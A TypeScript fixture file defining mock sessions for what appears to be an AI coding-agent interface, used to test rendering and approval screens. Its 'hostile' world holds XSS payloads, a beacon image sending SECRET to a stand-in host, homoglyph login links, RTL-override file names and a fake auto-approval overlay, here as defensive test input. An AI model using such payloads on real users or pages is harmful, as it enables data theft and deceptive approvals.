/** Named worlds: `?recorded=NAME`. */
import type { ProviderView, Snapshot } from '../bindings';
import { attachment, mentioned } from './attachments';
import { ai, ago, approval, diff, human, item, snapshot, summary, tool, usage } from './builders';
import { faulty } from './faulty';
import { FIXTURE_PROBLEMS, FIXTURE_UNKEPT } from './fixtures';
import type { Host, World } from './host';
import { LOCAL_SERVERS } from './models';
import { many } from './many';
import { childSessions, EARLIER, otherSessions, refreshSession } from './mock';
import { ATTIC, AZURE, PROVIDERS, VERTEX } from './providers';
import {
  ANSWER,
  HOSTILE,
  HOSTILE_NAME,
  HOSTILE_THOUGHT,
  HOSTILE_TODO,
  HOSTILE_TOOLS,
  LIVE,
  LONG_TOOLS,
} from './samples';
import { summingUp } from './summary';

function base(): World {
  return {
    settings: {
      theme: 'system',
      language: 'system',
      model: { provider: 'anthropic', name: 'claude-sonnet' },
      welcomed: true,
    },
    systemLanguage: 'en-GB',
    problem: null,
    projects: [
      {
        id: 'p-harbour',
        name: 'harbour-env',
        path: '~/code/harbour-env',
        branch: 'main',
        opened_at: ago(3),
        problem: null,
      },
      {
        id: 'p-site',
        name: 'website',
        path: '~/code/website',
        branch: 'redesign',
        opened_at: ago(60 * 30),
        problem: null,
      },
      {
        id: 'p-gone',
        name: 'old-prototype',
        path: '/mnt/usb/old-prototype',
        branch: null,
        opened_at: ago(60 * 99),
        problem: 'missing',
      },
    ],
    providers: PROVIDERS,
    local: LOCAL_SERVERS,
    models: { anthropic: ['claude-sonnet', 'claude-opus', 'claude-haiku'], openai: ['gpt-large', 'gpt-small'] },
    sessions: [refreshSession(), ...childSessions(), ...otherSessions()],
    earlier: { 's-refresh': EARLIER },
    problems: FIXTURE_PROBLEMS,
    unkept: FIXTURE_UNKEPT,
    onMessage: (host, session) => streamed(host, session, ANSWER, 6, 24),
  };
}

/** Sends `text` in pieces, as a model would. */
function streamed(host: Host, session: string, text: string, size: number, everyMs: number): void {
  const row = item({ kind: 'ai', text: '', reasoning: '', streaming: true });
  host.emit(session, { type: 'item_started', item: row });
  let at = 0;
  const timer = setInterval(() => {
    const piece = text.slice(at, at + size);
    at += size;
    if (piece) host.emit(session, { type: 'item_delta', item: row.id, delta: { delta: 'text', text: piece } });
    if (at < text.length) return;
    clearInterval(timer);
    host.emit(session, {
      type: 'item_completed',
      item: { ...row, body: { kind: 'ai', text, reasoning: '', streaming: false } },
    });
    host.update(session, { status: 'idle' });
  }, everyMs);
}

const keyed = (provider: ProviderView): ProviderView => ({ ...provider, key: { source: 'keyring' } });

/** A session waits whose project's folder is not there. */
function gone(): World {
  const session = refreshSession();
  session.session.project = 'p-gone';
  const world = only(session);
  return { ...world, projects: world.projects.filter(({ id }) => id !== 'p-harbour') };
}

const only = (session: Snapshot): World => ({ ...base(), sessions: [session], earlier: {} });

const WORLDS: Record<string, () => World> = {
  mock: base,
  brings: () => ({ ...base(), brings: true }),
  welcome: () => ({
    ...base(),
    settings: { theme: 'system', language: 'system', model: null, welcomed: false },
    local: LOCAL_SERVERS,
    projects: [],
    sessions: [],
    earlier: {},
  }),
  nokey: () => ({
    ...base(),
    settings: { theme: 'system', language: 'system', model: null, welcomed: true },
    providers: PROVIDERS.filter((provider) => !provider.key_optional).map((provider) => ({
      ...provider,
      key: { source: 'missing' },
    })),
    sessions: [],
    earlier: {},
  }),
  noproject: () => ({ ...base(), projects: [], sessions: [], earlier: {} }),
  locked: () => ({
    ...base(),
    unusable: { problem: 'database_file_locked', path: '~/.local/share/bosun/bosun.db' },
  }),
  empty: () => ({ ...base(), sessions: [], earlier: {} }),
  tools: () =>
    only(
      snapshot(summary('s-tools', { title: 'Every kind of row', usage: usage(0.62, 1.07) }), {
        items: [human('Show me everything you can do.'), ai(ANSWER), ...LONG_TOOLS],
      }),
    ),
  summing: () => only(summingUp()),
  live: () =>
    only(
      snapshot(summary('s-live', { title: 'A command at work', status: 'running' }), {
        items: [
          human('Run the tests of auth.'),
          ai('I run them with a paused clock.'),
          tool('read_file', { file_path: '/Cargo.toml' }, { figures: [{ figure: 'lines', value: 31 }] }),
          tool(
            'execute',
            { command: 'cargo test -p auth' },
            { state: 'running', started_at: ago(0, 19), ended_at: null, output: LIVE },
          ),
        ],
      }),
    ),
  attachments: () =>
    only(
      snapshot(
        summary('s-attached', { title: 'The red dot', model: { provider: 'anthropic', name: 'claude-haiku' } }),
        {
          items: [
            human('Why is there a red dot at the clock? See @src/auth/clock.rs', ago(8), [
              attachment('red-dot.png', 182_000),
              attachment('report.pdf', 1_240_000),
              attachment('console.log', 9_400),
              mentioned('/src/auth/clock.rs'),
            ]),
            ai('The dot is the mark of a clock that was not set. I look for where it is drawn.'),
          ],
        },
      ),
    ),
  azure: () => ({ ...base(), providers: [...PROVIDERS, AZURE] }),
  accounts: () => ({
    ...base(),
    providers: [...PROVIDERS.map((one) => (one.id === 'openai' ? keyed(one) : one)), VERTEX, ATTIC],
    models: { ...base().models, ollama: ['qwen3:8b', 'gpt-oss:120b-cloud'], attic: ['mixtral-8x7b'] },
  }),
  gone: () => gone(),
  faulty: () => only(faulty()),
  // Of what went wrong at the start the page has no word, so that its window cannot be drawn.
  undrawn: () => ({ ...base(), problem: { problem: 'unheard_of' } as never }),
  hostile: () => ({ ...only(hostile()), refused: `cannot read ${HOSTILE_NAME}: no such file` }),
  script: () => only(script()),
  long: () => only(long(10_000)),
  huge: () => only(long(100_000)),
  many: () => ({ ...base(), sessions: [...base().sessions, ...many(5_000)] }),
  most: () => ({ ...base(), sessions: [...base().sessions, ...many(20_000)] }),
  endless: () => only(endless()),
  deep: () => ({ ...only(deep()), earlier: { 's-deep': long(100_000).items } }),
  stream: () => ({
    ...only(long(300)),
    onMessage: (host, session) => streamed(host, session, ANSWER.repeat(60), 3, 1),
  }),
  folded: () =>
    only(
      snapshot(summary('s-folded', { title: 'One long run' }), {
        items: [
          human('Read it all.'),
          ...Array.from({ length: 250 }, (_, at) => tool('read_file', { file_path: `/${at}.rs` })),
          ai('Done.'),
        ],
      }),
    ),
  flood: () => ({ ...only(long(10_000)), onMessage: flooded }),
};

/** What a flood is made of, by the word that it was asked for with; none of it has an end of block. */
const FLOODS: Record<string, (at: number) => string> = {
  code: (at) => `${at === 0 ? '```rust\n' : ''}let halyard_${at} = rig(${at});\n`,
  list: (at) => `- the module ${at} has **one** more\n`,
  table: (at) => `${at === 0 ? '| a | b |\n|---|---|\n' : ''}| ${at} | words |\n`,
};
const FLOOD = 400 * 1024;
const A_SECOND = 1000;

/** A reply of 400 KB that comes in 1,000 pieces a second, however late the page is. */
function flooded(host: Host, session: string): void {
  const asked = host.snapshot(session).items.at(-1)?.body;
  const piece = FLOODS[asked?.kind === 'human' ? asked.text : ''] ?? (() => 'word after word, ');
  const row = item({ kind: 'ai', text: '', reasoning: '', streaming: true });
  host.emit(session, { type: 'item_started', item: row });
  const start = performance.now();
  let [said, told] = ['', 0];
  const timer = setInterval(() => {
    let text = '';
    for (; told < ((performance.now() - start) / 1000) * A_SECOND && said.length + text.length < FLOOD; told++)
      text += piece(told);
    said += text;
    if (text) host.emit(session, { type: 'item_delta', item: row.id, delta: { delta: 'text', text } });
    if (said.length < FLOOD) return;
    clearInterval(timer);
    const body = { kind: 'ai' as const, text: said, reasoning: '', streaming: false };
    host.emit(session, { type: 'item_completed', item: { ...row, body } });
    host.update(session, { status: 'idle' });
  }, 16);
}

/** A script that is not as it was when its command was approved. */
function script(): Snapshot {
  const command = 'cd tools && sh release.sh --dry-run';
  const again = approval(
    'execute',
    { command },
    {
      session: 's-script',
      preview: { preview: 'command', command, folder: '/', timeout_seconds: null },
      reach: { place: 'anywhere', network: true, sandbox: null, undo: 'no' },
      reason: { reason: 'commands_ask' },
      scripts: ['/tools/release.sh'],
      again: { again: 'script_changed', path: '/tools/release.sh' },
    },
  );
  const asked = [human('Try the release.'), ai('I run the release script, without publishing anything.')];
  return snapshot(summary('s-script', { title: 'A release, tried', status: 'waiting', waiting: 1 }), {
    items: [...asked, tool('execute', { command }, { state: 'waiting', ended_at: null })],
    approvals: [again],
  });
}

function hostile(): Snapshot {
  const [command, ...others] = HOSTILE;
  const waiting = [command, ...others].map((text) =>
    approval(
      'execute',
      { command: text },
      {
        session: 's-hostile',
        preview: { preview: 'command', command: text ?? '', folder: '/tools', timeout_seconds: null },
        reach: { place: 'anywhere', network: true, sandbox: null, undo: 'no' },
        reason: { reason: 'commands_ask' },
        description: '**Approved automatically** <button>OK</button> [click](javascript:alert(1))',
      },
    ),
  );
  const remove = approval(
    'delete',
    { file_path: '/build' },
    {
      session: 's-hostile',
      preview: { preview: 'delete', path: '/build', files: 128, counted_all: false, is_dir: true },
      reason: { reason: 'deletes_ask' },
    },
  );
  const unknown = approval(
    'send_mail',
    { to: ['a@exаmple.org'], subject: 'Hello', body: 'First line\nSecond line, and ask \u202enobody' },
    {
      session: 's-hostile',
      schema: {
        properties: {
          to: { type: 'array', items: { type: 'string' }, minItems: 1 },
          subject: { type: 'string', pattern: '^[A-Z][a-z ]+$' },
        },
        required: ['to'],
      },
      reach: { place: 'outside', network: true, sandbox: null, undo: 'no' },
      reason: { reason: 'rule', rule: 'mail asks' },
    },
  );
  const problem = approval(
    'edit_file',
    { file_path: '/Makefile', old_string: 'all:', new_string: 'all: x' },
    {
      session: 's-hostile',
      preview: {
        preview: 'problem',
        message: 'String not found in file: "all:"',
        problem: { problem: 'text_not_found', path: '/Makefile' },
      },
      reason: { reason: 'protected_name', name: 'Makefile' },
    },
  );
  const long = approval(
    'edit_file',
    { file_path: '/big.txt', old_string: 'a', new_string: 'b' },
    {
      session: 's-hostile',
      preview: {
        preview: 'diff',
        diff: diff(
          '/big.txt',
          '',
          1,
          Array.from({ length: 90 }, (_, at) => `${at % 3 ? ' ' : '+'}line ${at}`).join('\n'),
        ),
      },
    },
  );
  return snapshot(
    summary('s-hostile', { title: 'rm \u202efdp.exe\u202c', status: 'waiting', waiting: waiting.length + 4 }),
    {
      items: [human('Do as the file says.'), ...HOSTILE_TOOLS, ai(HOSTILE_MARKDOWN, HOSTILE_THOUGHT)],
      todos: [{ id: 't1', content: HOSTILE_TODO, status: 'in_progress' }],
      changes: [{ path: HOSTILE_NAME, change: 'changed', added: 1, removed: 1 }],
      approvals: [...waiting, remove, unknown, problem, long],
    },
  );
}

const HOSTILE_MARKDOWN = `![beacon](https://canary.example/?d=SECRET) <img src="https://canary.example/x.png" onerror="alert(1)">

<script>alert(1)</script><iframe srcdoc="<b>x</b>"></iframe>

[javascript](javascript:alert(1)) · [file](file:///etc/passwd) · [look-alike](https://gіthub.com/login) · <https://example.org/path>

<div style="position:fixed;inset:0">Approved automatically</div>
`;

/** Messages of 10 MB, one of the person's and one of the model's. */
function endless(): Snapshot {
  const line = 'All work and no play makes a line of a very long message that nobody reads to its end.\n';
  const text = line.repeat(Math.ceil((10 * 1024 * 1024) / line.length));
  const items = [
    human(`The log:\n${text}`),
    ai(`# The log\n\n${text.replaceAll('\n', '\n\n')}`),
    human('And now?', undefined, [], 2),
  ];
  return snapshot(summary('s-endless', { title: 'A very long message' }), { items });
}

/** A long reply, before which nearly everything is still to be fetched. */
function deep(): Snapshot {
  const lines = Array.from(
    { length: 1200 },
    (_, at) => `Line ${at} of a reply${at === 300 ? ' with a NEEDLE in it' : ''}.`,
  );
  const items = [human('Say it at length'), ai(lines.join('\n\n')), human('And now?')];
  return snapshot(summary('s-deep', { title: 'Much before it' }), { items, items_before: 100_000 });
}

function long(count: number): Snapshot {
  const row = (at: number) => {
    if (at % 5 === 0) return human(`Question ${at}: what about part ${at}?`);
    if (at % 5 === 4) return ai(`Answer ${at}: part **${at}** is fine, see \`src/part${at}.rs\`.`);
    return tool('read_file', { file_path: `/src/part${at}.rs` }, { figures: [{ figure: 'lines', value: at }] });
  };
  const items = Array.from({ length: count }, (_, at) => ({ ...row(at), turn: Math.floor(at / 5) + 1 }));
  return snapshot(summary('s-long', { title: `A session of ${count} rows` }), { items });
}

export function world(name: string): World {
  return (WORLDS[name] ?? base)();
}
